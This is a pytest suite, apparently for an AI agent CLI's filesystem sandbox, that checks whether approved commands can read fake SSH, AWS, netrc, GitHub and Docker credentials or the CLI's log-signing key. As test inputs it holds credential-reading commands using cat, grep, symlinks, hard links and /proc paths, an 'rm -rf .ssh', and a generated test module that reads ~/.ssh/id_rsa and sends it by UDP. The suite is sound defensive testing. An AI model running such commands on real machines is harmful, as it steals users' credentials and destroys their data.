"""Family: what an approved command reads. The home folder is a fake one with fake credential
files (HOME points at it); agent-cli's own state is the test's AGENT_CLI_HOME. The attacker
works as attackers do: `cat` and `grep -r`, a symlink and a hard link from the workspace, a
`python3 -m unittest` whose test module reads ~/.ssh/id_rsa and sends it by UDP, and a forged
log signed with the key it tried to steal. The same reads with `--sandbox off` get through, so
each refusal is the sandbox's.
"""

from __future__ import annotations

import os
import sys
from pathlib import Path

import pytest

from agent_cli.log.trust import check_trust
from tests.logtools import my_key, sign_as_mine
from tests.sandbox.harness import SUPPORT, Inbox, approved_commands, confined

SECRETS = {
    ".ssh/id_rsa": "-----BEGIN FAKE KEY----- ssh-secret-0451",
    ".aws/credentials": "aws_secret_access_key = aws-secret-0451",
    ".netrc": "machine example.org password netrc-secret-0451",
    ".config/gh/hosts.yml": "oauth_token: gh-secret-0451",
    ".docker/config.json": '{"auths": {"x": {"auth": "docker-secret-0451"}}}',
    ".git-credentials": "https://u:gitcred-secret-0451@example.org",
}


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "home"
    for rel, text in SECRETS.items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        (folder / rel).write_text(text + "\n")
    (folder / ".ssh" / "id_rsa.pub").write_text("ssh-rsa PUBLIC-0451\n")
    (folder / ".gitconfig").write_text("[user]\n\tname = readable-0451\n")
    (folder / ".docker" / "features.json").write_text("readable-docker-0451\n")
    (folder / "notes").mkdir()
    (folder / "notes" / "todo.txt").write_text("readable-notes-0451\n")
    monkeypatch.setenv("HOME", str(folder))
    for var in ("XDG_CONFIG_HOME", "XDG_DATA_HOME"):
        monkeypatch.delenv(var, raising=False)
    return folder


def test_credential_stores_are_unreadable_the_rest_of_home_is_not(workspace: Path,
                                                                   home: Path) -> None:
    reads = [f"cat {home / rel}" for rel in SECRETS]
    (workspace / "door").symlink_to(home / ".ssh")
    out = approved_commands(
        workspace, *reads, "cat door/id_rsa", f"ln {home}/.ssh/id_rsa stolen && cat stolen",
        f"cat /proc/self/root{home}/.ssh/id_rsa {home}/notes/../.ssh/id_rsa",
        f"cat {home}/.gitconfig {home}/.docker/features.json {home}/notes/todo.txt && ls -a "
        f"{home} && ls /", f"grep -r secret-0451 {home}")
    off = approved_commands(workspace, *reads, sandbox="off")
    for i in range(1, len(SECRETS) + 1):
        assert "secret-0451" in off.result(f"c{i}").content  # unconfined, each read works
    if not confined(out):
        return
    n = len(SECRETS)
    for i in range(1, n + 4):
        res = out.result(f"c{i}")
        assert "secret-0451" not in res.content, res.content
    assert "Permission denied" in out.result(f"c{n + 3}").content
    for i in range(1, n + 2):
        assert "Permission denied" in out.result(f"c{i}").content
    assert "Invalid cross-device link" in out.result(f"c{n + 2}").content  # Landlock: no refer
    assert not (workspace / "stolen").exists()
    allowed = out.result(f"c{n + 4}")
    assert not allowed.is_error, allowed.content
    for word in ("readable-0451", "readable-docker-0451", "readable-notes-0451", ".ssh", "usr"):
        assert word in allowed.content
    grep = out.result(f"c{n + 5}").content
    assert "secret-0451" not in grep and "Permission denied" in grep
    assert "sandbox: reads: everything except agent-cli's own state" in out.preview()
    record = out.started().sandbox
    assert record is not None and str(home / ".ssh") in record["reads_denied"]
    assert record["reads"] == ["/"]


def test_the_log_key_is_out_of_reach_so_a_forgery_cannot_be_signed(
        workspace: Path, home: Path, tmp_path: Path) -> None:
    key_file = Path(os.environ["AGENT_CLI_HOME"]) / "log.key"
    out = approved_commands(workspace, f"cat {key_file} > stolen.key; echo rc=$?",
                            f"cp {key_file} copy.key; echo rc=$?")
    real = my_key()
    assert key_file.exists()
    if not confined(out):
        return
    stolen = (workspace / "stolen.key").read_bytes()
    assert real.hex().encode() not in stolen and stolen == b""
    assert not (workspace / "copy.key").exists()
    assert "Permission denied" in out.result("c1").content
    # The attacker's forgery: this very session's log, re-signed with what they stole.
    log = out.session.log_path
    forged = sign_as_mine(log, tmp_path / "forged.jsonl", key=stolen or b"\0" * 32)
    assert not check_trust(forged).trusted
    control = sign_as_mine(log, tmp_path / "control.jsonl", key=real)
    assert check_trust(control).trusted  # had the key been read, the forgery would pass


def test_project_b_cannot_read_project_a_logs(tmp_path: Path, home: Path) -> None:
    ws_a, ws_b = tmp_path / "a", tmp_path / "b"
    ws_a.mkdir()
    ws_b.mkdir()
    approved_commands(ws_a, "echo project-a-secret-0451 > /dev/null")
    state = Path(os.environ["AGENT_CLI_HOME"])
    logs = list((state / "sessions").glob("*.jsonl"))
    assert logs and any("project-a-secret-0451" in p.read_text() for p in logs)
    out = approved_commands(ws_b, f"grep -r project-a-secret-0451 {state}",
                            f"cat {state}/sessions/*.jsonl | grep -c project-a")
    if not confined(out):
        return
    for cid in ("c1", "c2"):
        res = out.result(cid)
        assert "project-a-secret-0451" not in res.content.split("\n", 1)[1], res.content
        assert res.is_error


def test_a_test_suite_that_steals_the_ssh_key_gets_nothing_out(workspace: Path,
                                                               home: Path) -> None:
    """The issue's first case: `python3 -m unittest`, a test module that reads ~/.ssh/id_rsa
    and sends it by UDP to a listener on this machine."""
    inbox = Inbox("udp")
    try:
        (workspace / "test_steal.py").write_text(
            "import os, socket, unittest\n\nclass T(unittest.TestCase):\n"
            "    def test_steal(self):\n"
            "        try:\n"
            "            data = open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()\n"
            "        except OSError as e:\n"
            "            data = ('read refused: %s' % e).encode()\n"
            "        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            f"        s.sendto(data, {tuple(inbox.address)!r})\n")
        out = approved_commands(workspace, {"command": [sys.executable, "-m", "unittest"]})
    finally:
        inbox.close()
    if not confined(out):
        return
    res = out.result()
    assert "ssh-secret-0451" not in res.content
    assert res.is_error and "PermissionError" in res.content
    assert inbox.got == []


def test_read_allow_and_read_deny_adjust_the_list(workspace: Path, home: Path) -> None:
    out = approved_commands(workspace, f"cat {home}/.ssh/id_rsa.pub",
                            f"cat {home}/notes/todo.txt", f"cat {home}/.ssh/id_rsa",
                            sandbox_read_allow=["~/.ssh/id_rsa.pub"],
                            sandbox_read_deny=["~/notes"])
    if not confined(out):
        return
    assert "PUBLIC-0451" in out.result("c1").content
    assert out.result("c2").is_error and "readable-notes-0451" not in out.result("c2").content
    assert "ssh-secret-0451" not in out.result("c3").content
    record = out.started().sandbox
    assert record is not None and str(home / "notes") in record["reads_denied"]
    assert str(home / ".ssh" / "id_rsa.pub") in record["reads"]


def test_the_allow_list_is_built_once_per_session(workspace: Path, home: Path) -> None:
    out = approved_commands(workspace, "true", "true", {"command": "true", "network": True})
    if not confined(out) or not SUPPORT.abi:
        return
    box = out.session.sandbox
    assert len(box._plans) == 2  # one per record (network or not), not one per command


def test_run_in_the_home_folder_the_credentials_stay_out_of_reach(home: Path) -> None:
    """The workspace is the home folder itself: writable and readable, but ~/.ssh carved out."""
    (home / "proj").mkdir()
    out = approved_commands(home, "cat .ssh/id_rsa", "cat .aws/credentials",
                            "echo new > proj/made.txt && cat notes/todo.txt",
                            "rm -rf .ssh; echo rc=$?")
    if not confined(out):
        return
    for cid in ("c1", "c2"):
        assert "secret-0451" not in out.result(cid).content
        assert "Permission denied" in out.result(cid).content
    assert not out.result("c3").is_error, out.result("c3").content
    assert (home / "proj" / "made.txt").read_text() == "new\n"
    assert (home / ".ssh" / "id_rsa").exists()  # nothing under a denied path can be removed


def test_no_setting_reopens_agent_clis_own_state(workspace: Path, home: Path) -> None:
    """`sandbox_read_allow` can take a credential store out of the list, never the log key."""
    state = Path(os.environ["AGENT_CLI_HOME"])
    out = approved_commands(workspace, f"cat {state}/log.key", f"cat {home}/.netrc",
                            sandbox_read_allow=[str(state / "log.key"), str(state),
                                                "~/.netrc"])
    if not confined(out):
        return
    key = my_key().hex()
    assert key not in out.result("c1").content and "Permission denied" in out.result("c1").content
    assert "netrc-secret-0451" in out.result("c2").content  # the credential store: allowed
    record = out.started().sandbox
    assert record is not None and str(state.resolve()) in record["reads_denied"]
